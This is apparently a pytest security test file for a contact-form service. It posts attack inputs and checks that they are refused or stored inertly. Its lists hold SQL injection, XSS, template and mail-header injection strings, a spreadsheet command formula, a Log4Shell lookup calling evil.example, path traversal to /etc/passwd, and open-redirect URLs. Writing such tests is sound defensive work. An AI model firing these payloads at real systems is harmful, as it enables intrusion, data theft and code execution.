"""What an attacker sends to a form: each class of attack with several inputs.

The plain inputs of some classes are in test_web_forms.py; docs/security/attacks.md lists all
classes with their tests.
"""

from __future__ import annotations

import email
import email.policy
import json
import logging
from collections import Counter
from datetime import timedelta
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any, Final
from urllib.parse import quote

import pytest

from leadline.mail.message import address_message
from leadline.stages import ORDER, run_stages
from tests.factories import NOW, a_visitor, a_workspace, read_everything, rows_of

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from email.message import EmailMessage
    from pathlib import Path

    import httpx

    from leadline.stages import Workspace

SHOP: Final = "https://www.shop.example"
FORM: Final = f"""
title: {{en: Ask us, ja: お問い合わせ}}
fields:
  full_name: {{label: {{en: Name, ja: お名前}}, required: true, max_length: 2000}}
  email: {{label: {{en: Email, ja: メール}}, required: true, max_length: 254}}
  company: {{label: {{en: Company, ja: 会社名}}, max_length: 2000}}
  title: {{label: {{en: Title, ja: 役職}}, max_length: 2000}}
  message: {{label: {{en: Message, ja: 内容}}, max_length: 2000}}
consent:
  version: "3"
  wording: {{en: Send me news., ja: 案内を希望します。}}
origins: [{SHOP}]
return_urls: ["{SHOP}/thanks", "{SHOP}/thanks?from=form"]
protection: {{minimum_seconds: 0, posts_per_minute: 100000, posts_per_address: 100000}}
"""
LAUREN: Final = {"full_name": "Lauren Anderson", "email": "lauren@example.com", "consent": "true"}
TEXTS: Final = ("full_name", "company", "title", "message")
pytestmark = pytest.mark.xdist_group("attacks")  # one store for what is refused
BROWSER: Final = {"Accept": "text/html"}
URLENCODED: Final = {"Content-Type": "application/x-www-form-urlencoded"}
JSON: Final = {"Content-Type": "application/json"}
#: Words that an answer to the outside never holds: of a trace, of a version, of an address.
TELLING: Final = ("Traceback", 'File "', ".py", "sqlite", "postgres", "uvicorn", "fastapi", "/tmp")  # noqa: S108 - a word to look for


@pytest.fixture
def work(tmp_path: Path, database_url: str) -> Iterator[Workspace]:
    with a_workspace(tmp_path / "home", database_url, files=_files()) as opened:
        yield opened


@pytest.fixture
def own(tmp_path: Path) -> Iterator[Workspace]:
    """Give the same on SQLite alone."""
    with a_workspace(tmp_path / "home", files=_files()) as opened:
        yield opened


@pytest.fixture(scope="module")
def front(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workspace]:
    """Give one for what is refused: all these tests together store nothing."""
    with a_workspace(tmp_path_factory.mktemp("front") / "home", files=_files()) as opened:
        yield opened


def _files() -> dict[str, str]:
    return {"config/forms/ask.yaml": FORM}


async def post(
    work: Workspace,
    body: Mapping[str, str] | None = None,
    **options: Any,  # noqa: ANN401 - httpx's
) -> httpx.Response:
    """Post to the form `ask`: a dict as urlencoded fields, anything else by `options`."""
    async with a_visitor(work) as visitor:
        return await visitor.post("/forms/ask", data=body, **options)


async def mails_about(work: Workspace, *people: dict[str, str]) -> list[EmailMessage]:
    """Take leads through the pipeline; return every mail about them as it goes out."""
    for number, said in enumerate(people):
        answer = await post(work, LAUREN | said | {"email": f"lauren{number}@example.com"})
        assert answer.status_code == 201, answer.text
    await run_stages(work, ORDER[:-1], now=NOW + timedelta(hours=16))
    return [
        email.message_from_bytes(
            address_message(row["mail"], recipient=row["recipient"], subject=row["subject"]),
            policy=email.policy.default,
        )
        for row in rows_of(work, "outbox")
        if row["mail"]
    ]


# ---- I01, I02: headers and addresses ------------------------------------------------------------


TRICKS: Final = (
    "\r\nBcc: all@example.com",
    "\nBcc: all@example.com\n\nBuy!",
    "\rBcc: all@example.com",
    "\u2028Bcc: all@example.com",
    "\x85Bcc: all@example.com",
    "\x0b\x0cBcc: all@example.com",
    "\r\n Bcc: all@example.com",
    "%0d%0aBcc: all@example.com",
    "=?utf-8?q?=0D=0ABcc=3A_all=40example=2Ecom?=",
    "\r\n.\r\nMAIL FROM:<all@example.com>",
)


async def test_nothing_that_is_typed_becomes_a_header(own: Workspace) -> None:
    people = [dict.fromkeys(TEXTS, f"Lauren{trick}") for trick in TRICKS]
    mails = await mails_about(own, *people)
    kinds = Counter(row["kind"] for row in rows_of(own, "outbox"))
    assert (kinds["touch"], kinds["assignment"] > 0) == (len(TRICKS), True)
    for mail in mails:
        assert "bcc" not in {name.lower() for name in mail}
        assert "all@example.com" not in f"{mail['To']} {mail['Cc']} {mail['From']}"
        assert not any("\n" in str(text) or "\r" in str(text) for text in mail.values())
        assert len(mail["To"].addresses) == 1


@pytest.mark.parametrize(
    "address",
    [
        "a@x.example;b@y.example",
        "a@x.example b@y.example",
        "a@x.example\tb@y.example",
        "<a@x.example>,<b@y.example>",
        "x: a@x.example, b@y.example;",
        "a@x.example%0aBcc:b@y.example",
        '"a@x.example,b"@y.example',
        "a@x.example\u2028b@y.example",
        "a@x.example\u3000b@y.example",
        "a@x.example？b@y.example",
        "a，b@x.example",
        "@x.example",
        "a@",
        "a@[127.0.0.1]",
        "a@localhost",
        "x" * 250 + "@x.example",
    ],
)
async def test_only_one_address_is_an_address(front: Workspace, address: str) -> None:
    answer = await post(front, LAUREN | {"email": address})
    assert (answer.status_code, set(answer.json()["errors"])) == (422, {"email"})
    assert rows_of(front, "submissions") == []


SHAPES: Final = (
    "ＬＡＵＲＥＮ＠ＥＸＡＭＰＬＥ．ＣＯＭ",  # full width
    "lauren\u200b@example.com",
    "\ufefflauren@example.com",
    "lau\u00adren@example.com",
    "lauren@example\u3002com",
    "\u202alauren@example.com\u202c",
    "mailto:Lauren@Example.com",
)


@pytest.mark.parametrize(
    ("address", "is_flagged"),
    [
        ("lauren@mailinator.com", True),
        ("Lauren@YOPMAIL.com", True),
        ("lauren@sute.jp", True),  # codespell:ignore sute
        ("lauren@example.com", False),
    ],
)
async def test_box_that_is_thrown_away_is_flagged_and_taken_in(
    own: Workspace, address: str, *, is_flagged: bool
) -> None:
    answer = await post(own, LAUREN | {"email": address})
    assert answer.status_code == 201
    await run_stages(own, ["intake"], now=NOW)
    assert [lead["is_disposable_address"] for lead in rows_of(own, "leads")] == [is_flagged]


async def test_address_that_looks_the_same_is_the_same(work: Workspace) -> None:
    for shape in SHAPES:
        answer = await post(work, LAUREN | {"email": shape, "message": shape})
        assert answer.status_code == 201
    await run_stages(work, ["intake"], now=NOW)
    assert [row["email"] for row in rows_of(work, "leads")] == ["lauren@example.com"]
    assert len(rows_of(work, "submissions")) == len(SHAPES)


# ---- I05, I06: bodies ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("content", "headers"),
    [
        ("a=1&" * 1000, URLENCODED),
        ("&" * 200_000 + "a=1", URLENCODED),
        (json.dumps({"x": {str(n): n for n in range(1000)}}), JSON),
        ('{"a":' * 5000 + "1" + "}" * 5000, JSON),
        (json.dumps({"email": [[[[["a@x.example"]]]]]}), JSON),
        ('{"email": 1e999, "x": Infinity}', JSON),
        ('{"email": "' + "\\u0000" * 9, JSON),
        (b"\x00" * 1000, JSON),
        ("email=%FF%FE%FF", URLENCODED),
        ("--x\r\nContent-Disposition: form-data\r\n\r\n", {"Content-Type": "multipart/form-data"}),
        ("", {"Content-Type": "multipart/form-data; boundary="}),
        ("x", {"Content-Type": f"multipart/form-data; boundary={'x' * 5000}"}),
    ],
)
async def test_body_that_no_form_sends_is_refused_and_not_stored(
    front: Workspace, content: str | bytes, headers: dict[str, str]
) -> None:
    answer = await post(front, content=content, headers=headers)
    assert answer.status_code in {400, 422}
    assert rows_of(front, "submissions") == []


@pytest.mark.parametrize("kind", ["data", "json", "files"])
async def test_fields_that_the_form_does_not_have_are_left_out(own: Workspace, kind: str) -> None:
    columns = {column for table in ("leads", "submissions") for column in _columns(table)}
    known = {"full_name", "email", "company", "title", "message", "consent", "raw"}
    extra = dict.fromkeys(columns - known, "R01") | {"__proto__": "x", "raw[email]": "x"}
    fields: Any = LAUREN | {"consent": "false"} | extra
    if kind == "files":
        fields = {name: (None, text) for name, text in fields.items()}
    async with a_visitor(own) as visitor:
        answer = await visitor.request("POST", "/forms/ask", **{kind: fields})
    assert answer.status_code == 201, answer.text
    assert rows_of(own, "submissions")[0]["raw"] == LAUREN | {"consent": "false"}


def _columns(table: str) -> list[str]:
    from leadline.store import schema

    return [column.name for column in schema.metadata.tables[table].columns]


@pytest.mark.parametrize("kind", ["urlencoded", "json", "multipart"])
@pytest.mark.parametrize("bad", ["\0", "a\0b"])
async def test_nul_is_refused_beside_its_field(front: Workspace, bad: str, kind: str) -> None:
    fields = LAUREN | {"company": bad}
    ways: dict[str, dict[str, Any]] = {
        "urlencoded": {"body": fields},
        "json": {"json": fields},
        "multipart": {"files": {name: (None, text) for name, text in fields.items()}},
    }
    answer = await post(front, **ways[kind])
    assert (answer.status_code, set(answer.json()["errors"])) == (422, {"company"})


@pytest.mark.parametrize(
    "content",
    [
        '{"full_name":"\\ud800","email":"a@x.example"}',
        '{"full_name":"x\\udfff","email":"a@x.example"}',
        '{"full_name":"\\udc00\\ud800","email":"a@x.example"}',
        '{"full_name":"x","email":"a\\ud800@x.example"}',
        '{"full_name":["x","\\ud800"],"email":"a@x.example"}',
    ],
)
async def test_half_a_character_is_refused_beside_its_field(front: Workspace, content: str) -> None:
    assert (await post(front, content=content, headers=JSON)).status_code == 422
    assert rows_of(front, "submissions") == []


async def test_half_a_character_anywhere_else_is_no_failure(work: Workspace) -> None:
    for odd in (
        '"\\ud800": "x"',
        '"website_url": "\\ud800"',
        '"idempotency_key": "\\ud800"',
        '"idempotency_key": "\\u0000"',
        '"return_url": "\\ud800"',
    ):
        content = f'{{"full_name": "x", "email": "a@x.example", {odd}}}'
        answer = await post(work, content=content, headers=JSON)
        assert answer.status_code in {201, 400, 422}, odd


# ---- I14, I19: where to, and where from ---------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "//evil.example/thanks",
        "https:evil.example",
        "https:///evil.example",
        "http://www.shop.example/thanks",
        f"{SHOP}:443/thanks",
        f"{SHOP}.evil.example/thanks",
        "https://www.shop.example@evil.example/thanks",
        "https://evil.example\\@www.shop.example/thanks",
        "\\\\evil.example",
        f"{SHOP}/thanks/../evil",
        f"{SHOP}/thanks#evil",
        f"{SHOP}/Thanks",
        f"{SHOP}/thanks?x=1",
        f"{SHOP}/thanks\r\nLocation: https://evil.example",
        f" {SHOP}/thanks",
        f"{SHOP}/thanks ",
        quote(f"{SHOP}/thanks", safe=""),
        "javascript:alert(1)",
        "data:text/html,x",
        f"{SHOP}/thanks\0",
        "https://www.ｓhop.example/thanks",
    ],
)
async def test_visitor_is_sent_to_no_other_address(front: Workspace, url: str) -> None:
    for options in ({"body": LAUREN | {"return_url": url}}, {"params": {"return_url": url}}):
        answer = await post(front, headers=BROWSER, **{"body": LAUREN, **options})
        assert (answer.status_code, "location" in answer.headers) == (400, False)
    assert rows_of(front, "submissions") == []


async def test_page_does_not_keep_a_foreign_return_url(front: Workspace) -> None:
    async with a_visitor(front, headers=BROWSER) as visitor:
        for url in ("https://evil.example/", '"><script>', "//evil.example"):
            page = await visitor.get("/forms/ask", params={"return_url": url})
            assert (page.status_code, "evil" in page.text, "<script" in page.text) == (
                200,
                False,
                False,
            )


@pytest.mark.parametrize(
    "origin",
    [
        f"{SHOP}.evil.example",
        f"{SHOP}:8443",
        "http://www.shop.example",
        "https://shop.example",
        "https://evil-www.shop.example",
        "https://a.www.shop.example",
        f"https://evil.example/{SHOP}",
        f"{SHOP}@evil.example",
        "https://www.shop.example, https://evil.example",
        "https://xn--wwwshop-9za.example",
        "file://",
        "chrome-extension://abc",
        "undefined",
        "*",
    ],
)
async def test_site_that_is_not_listed_posts_nothing(front: Workspace, origin: str) -> None:
    for kind in ("application/json", "text/plain", "application/x-www-form-urlencoded"):
        headers = {"Origin": origin, "Content-Type": kind, "Sec-Fetch-Site": "cross-site"}
        answer = await post(front, content=json.dumps(LAUREN), headers=headers)
        assert answer.status_code == 403
        assert "access-control-allow-origin" not in answer.headers
    assert rows_of(front, "submissions") == []


async def test_opaque_origin_of_another_site_posts_nothing(front: Workspace) -> None:
    for site in ("cross-site", "same-site"):
        headers = {"Origin": "null", "Sec-Fetch-Site": site}
        assert (await post(front, LAUREN, headers=headers)).status_code == 403
    assert rows_of(front, "submissions") == []


async def test_origin_is_compared_without_regard_to_case(own: Workspace) -> None:
    answer = await post(own, LAUREN, headers={"Origin": "HTTPS://WWW.Shop.Example"})
    assert answer.status_code == 201


# ---- I16 and the rest: what is typed stays text -------------------------------------------------

NASTY: Final = (
    "'; DROP TABLE leads; --",
    '" OR "1"="1',
    "\\'; DELETE FROM submissions; /*",
    "%s %(x)s ? :name $1 {0} ${x}",
    "1); ATTACH DATABASE 'x' AS y; --",
    "{{ 7777 * 7777 }} {% for x in y %} {# #}",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)> ' onfocus='x",
    "</textarea></title></style><script>",
    "=cmd|'/c calc'!A1",
    "${jndi:ldap://evil.example/a}",
    "../../../../etc/passwd",
)


async def test_signs_of_other_languages_are_stored_as_text(work: Workspace) -> None:
    tables = set(read_everything(work))
    for number, nasty in enumerate(NASTY):
        said = {**dict.fromkeys(TEXTS, nasty), "email": f"lauren{number}@example.com"}
        assert (await post(work, LAUREN | said)).status_code == 201
    await run_stages(work, ["intake"], now=NOW)
    raws = [row["raw"] for row in rows_of(work, "submissions")]
    assert [{raw[name] for name in TEXTS} for raw in raws] == [{nasty} for nasty in NASTY]
    assert [row["message"] for row in rows_of(work, "leads")] == list(NASTY)
    assert set(read_everything(work)) == tables


async def test_signs_of_other_languages_are_no_key_of_another(work: Workspace) -> None:
    for nasty in NASTY:
        header = {"Idempotency-Key": nasty}
        first, again = [await post(work, LAUREN, headers=header) for _ in range(2)]
        other = await post(work, LAUREN | {"company": "x"}, headers=header)
        assert (first.json(), other.status_code) == (again.json(), 409)
    assert len(rows_of(work, "submissions")) == len(NASTY)


class Page(HTMLParser):
    """The elements of a page, and what its fields hold."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}


@pytest.mark.parametrize("nasty", NASTY)
async def test_what_was_typed_makes_no_element_of_a_page(front: Workspace, nasty: str) -> None:
    body = LAUREN | dict.fromkeys(TEXTS, nasty) | {"email": nasty}
    plain = await post(front, LAUREN | dict.fromkeys(TEXTS, "x") | {"email": "x"}, headers=BROWSER)
    shown = await post(front, body, headers=BROWSER, params={"lang": nasty, "return_url": ""})
    assert shown.status_code == plain.status_code == 422
    assert Page(shown.text).tags == Page(plain.text).tags
    assert Page(shown.text).attributes == Page(plain.text).attributes
    assert "60481729" not in shown.text


async def test_what_was_typed_makes_no_element_of_a_mail(own: Workspace) -> None:
    nasty = "<script>alert(1)</script>{{ 7777 * 7777 }}<img src=x onerror=alert(1)>"
    mails = await mails_about(own, dict.fromkeys(TEXTS, nasty))
    assert mails
    for mail in mails:
        html = mail.get_body(("html",))
        assert html is not None
        assert not Page(html.get_content()).tags & {"script", "img"}
        assert "{{ 7777 * 7777 }}" in mail.as_string() or "60481729" not in str(mail["Subject"])


# ---- O07, O12: what is told and noted -----------------------------------------------------------


async def test_no_line_of_the_log_holds_or_is_made_by_what_was_sent(
    own: Workspace, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG, "leadline")
    canary = "CANARY\r\n2026-01-01 ERROR forged"
    await mails_about(own, dict.fromkeys(TEXTS, canary) | {"idempotency_key": "CANARY"})
    async with a_visitor(own, headers={"User-Agent": "CANARY", "Referer": "CANARY"}) as visitor:
        await visitor.post("/forms/ask", data={"email": canary})
        for path in ("/forms/CANARY", "/u/CANARY%0D%0A", "/CANARY%0A", "/healthz?x=CANARY%0D"):
            await visitor.get(path)
        await visitor.request("CANARY", "/forms/ask")
    lines = [record.getMessage() for record in caplog.records]
    assert any("/forms/{form}" in line for line in lines)
    assert [line for line in lines if "CANARY" in line or "\n" in line or "\r" in line] == []


@pytest.mark.parametrize("accept", ["text/html", "application/json", "image/png", ""])
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/%2e%2e/%2e%2e/etc/passwd"),
        ("GET", "/forms/..%2f..%2fetc%2fpasswd"),
        ("GET", "/forms/%00"),
        ("GET", "/forms/" + "x" * 5000),
        ("GET", "/forms/ask?" + "x=1&" * 2000),
        ("GET", "/.git/config"),
        ("GET", "/.env"),
        ("GET", "/u/%F0%9F%92%A9"),
        ("POST", "/healthz"),
        ("PUT", "/forms/ask"),
        ("TRACE", "/forms/ask"),
        ("POST", "/forms/none"),
        ("POST", "/openapi.json"),
    ],
)
async def test_refusal_tells_nothing_of_the_program(
    front: Workspace, method: str, path: str, accept: str
) -> None:
    async with a_visitor(front, headers={"Accept": accept}) as visitor:
        answer = await visitor.request(method, path)
    assert 400 <= answer.status_code < 500 or path.startswith("/forms/ask?")
    assert [word for word in TELLING if word in answer.text] == []
    assert not {"server", "x-powered-by", "via"} & set(answer.headers)


async def test_names_of_other_hosts_do_not_change_what_we_link_to(front: Workspace) -> None:
    forged = {
        "X-Forwarded-Host": "evil.example",
        "X-Forwarded-Proto": "https",
        "Forwarded": "host=evil.example",
        "X-Original-URL": "/healthz",
        "X-Rewrite-URL": "/healthz",
    }
    async with a_visitor(front, headers=BROWSER | forged) as visitor:
        page = await visitor.get("/forms/ask")
        hosted = await visitor.get("/forms/ask", headers={"Host": "evil.example"})
    for answer in (page, hosted):
        assert (answer.status_code, "evil" in answer.text) == (200, False)
        assert "evil" not in str(answer.headers)
